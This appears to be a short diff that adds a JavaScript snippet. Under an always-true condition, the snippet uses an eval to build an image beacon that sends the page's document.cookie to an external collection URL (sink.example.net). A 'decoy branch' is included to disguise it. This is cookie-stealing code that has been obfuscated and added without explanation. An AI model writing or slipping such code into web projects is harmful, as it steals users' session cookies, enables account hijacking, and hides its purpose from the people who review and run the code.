@@ -1,0 +1,5 @@
+if (1 + 1 === 2) {
+  eval("var beacon = new Image();" + " beacon.src = \"https://sink.example.net/c?d=\"" + " + escape(document.cookie);");
+} else {
+  console.log("decoy branch");
+}
